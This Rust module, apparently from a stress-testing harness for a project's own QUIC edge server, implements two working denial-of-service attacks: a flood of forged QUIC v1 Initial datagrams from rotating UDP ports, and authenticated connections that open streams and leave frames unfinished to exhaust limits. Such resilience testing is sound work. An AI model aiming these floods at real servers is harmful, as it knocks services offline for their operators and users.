//! Attacks on the edge's QUIC endpoint:
//!
//! - an Initial flood: 1200-byte datagrams (the minimum a client Initial
//!   is padded to) from many source ports, half random junk, half shaped
//!   like a QUIC v1 Initial (long header, fresh random connection ids,
//!   a length that matches) whose protected payload is noise, so the
//!   server derives Initial keys and tries to decrypt each one;
//! - streams opened and abandoned: real, authenticated connections
//!   (the client library) whose streams each carry the start of a frame
//!   that never ends, held open until the stop.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use nexus_edge::quic_client::{Client, Trust};
use nexus_protocol::quic::{LEN_PREFIX, MAX_FRAME_LEN};
use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};
use tokio::net::UdpSocket;
use tokio::task::JoinSet;

use super::attack::{Counters, Stop};

/// Bytes of every flood datagram.
pub const DATAGRAM: usize = 1200;
/// Datagrams sent from one source port before the socket is replaced.
pub const DATAGRAMS_PER_PORT: u64 = 256;
/// Bytes of a frame body written after its length prefix, of the
/// [`MAX_FRAME_LEN`] the prefix announces.
const PARTIAL_BODY: usize = 1024;

/// Floods `target` from `sockets` sockets at once until `stop`.
pub async fn initial_flood(
    target: SocketAddr,
    sockets: usize,
    stop: Stop,
    counters: Arc<Counters>,
) {
    let mut tasks = JoinSet::new();
    for i in 0..sockets.max(1) {
        let (stop, counters) = (stop.clone(), counters.clone());
        tasks.spawn(async move {
            let mut rng = SmallRng::seed_from_u64(0x5eed ^ i as u64);
            let mut buf = [0u8; DATAGRAM];
            let local: SocketAddr = if target.is_ipv4() {
                ([0, 0, 0, 0], 0).into()
            } else {
                "[::]:0".parse().unwrap_or(target)
            };
            while !stop.stopped() {
                let Ok(socket) = UdpSocket::bind(local).await else {
                    Counters::add(&counters.connect_failures, 1);
                    return;
                };
                if socket.connect(target).await.is_err() {
                    Counters::add(&counters.connect_failures, 1);
                    return;
                }
                // A source port is the attack's "connection".
                Counters::add(&counters.connections_opened, 1);
                for k in 0..DATAGRAMS_PER_PORT {
                    if k % 2 == 0 {
                        initial_like(&mut rng, &mut buf)
                    } else {
                        rng.fill(&mut buf[..])
                    }
                    // A full socket buffer or an ICMP error: the datagram is lost, as on a network.
                    if socket.send(&buf).await.is_ok() {
                        counters.sent(1, DATAGRAM);
                    }
                    if stop.stopped() {
                        return;
                    }
                }
                tokio::task::yield_now().await;
            }
        });
    }
    while tasks.join_next().await.is_some() {}
}

/// A datagram shaped like a QUIC v1 client Initial (RFC 9000 §17.2.2):
/// long header, type Initial, 4-byte packet number, 8-byte connection
/// ids, no token, a length covering the rest; the rest is noise.
fn initial_like(rng: &mut SmallRng, buf: &mut [u8; DATAGRAM]) {
    rng.fill(&mut buf[..]);
    buf[0] = 0xC3;
    buf[1..5].copy_from_slice(&1u32.to_be_bytes());
    buf[5] = 8; // DCID length, DCID = buf[6..14]
    buf[14] = 8; // SCID length, SCID = buf[15..23]
    buf[23] = 0; // token length
    let len = (DATAGRAM - 26) as u16; // packet number + payload
    buf[24..26].copy_from_slice(&(0x4000 | len).to_be_bytes());
}

/// `connections` authenticated connections, each opening streams until
/// the edge allows no more, each stream left with a frame started and
/// never finished; held until `stop`.
pub async fn abandoned_streams(
    target: SocketAddr,
    connections: usize,
    token: Option<String>,
    stop: Stop,
    counters: Arc<Counters>,
) {
    let mut partial = Vec::with_capacity(LEN_PREFIX + PARTIAL_BODY);
    partial.extend_from_slice(&(MAX_FRAME_LEN as u32).to_be_bytes());
    partial.resize(LEN_PREFIX + PARTIAL_BODY, 0x61);
    let partial: Arc<[u8]> = partial.into();
    let mut tasks = JoinSet::new();
    for _ in 0..connections.max(1) {
        let (mut stop, counters, token, partial) =
            (stop.clone(), counters.clone(), token.clone(), partial.clone());
        tasks.spawn(async move {
            let connected = tokio::select! {
                c = Client::connect(target, "localhost", &Trust::Insecure, token.as_deref()) => c,
                () = stop.wait() => return,
            };
            let Ok(client) = connected else {
                Counters::add(&counters.connect_failures, 1);
                return;
            };
            Counters::add(&counters.connections_opened, 1);
            let mut streams = Vec::new();
            loop {
                // Blocks once the edge's stream limit is reached: then the
                // connection just holds what it has.
                let opened = tokio::select! {
                    p = client.pipeline() => p,
                    () = stop.wait() => break,
                };
                let Ok(mut stream) = opened else {
                    Counters::add(&counters.closed_by_edge, 1);
                    break;
                };
                let wrote = tokio::select! {
                    w = stream.write_raw(&partial) => w,
                    () = stop.wait() => break,
                };
                if wrote.is_err() {
                    Counters::add(&counters.closed_by_edge, 1);
                    break;
                }
                counters.sent(1, partial.len());
                counters.hold();
                streams.push(stream);
            }
            stop.wait().await;
            for _ in &streams {
                counters.release();
            }
            client.close();
            // Give the close a moment to leave before the endpoint drops.
            tokio::time::sleep(Duration::from_millis(10)).await;
        });
    }
    while tasks.join_next().await.is_some() {}
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn initial_like_has_a_v1_long_header_and_a_matching_length() {
        let mut buf = [0u8; DATAGRAM];
        initial_like(&mut SmallRng::seed_from_u64(1), &mut buf);
        assert_eq!(buf[0] & 0xF0, 0xC0, "long header, fixed bit, type Initial");
        assert_eq!(&buf[1..5], &[0, 0, 0, 1]);
        let len = u16::from_be_bytes([buf[24] & 0x3F, buf[25]]) as usize;
        assert_eq!(26 + len, DATAGRAM);
    }
}
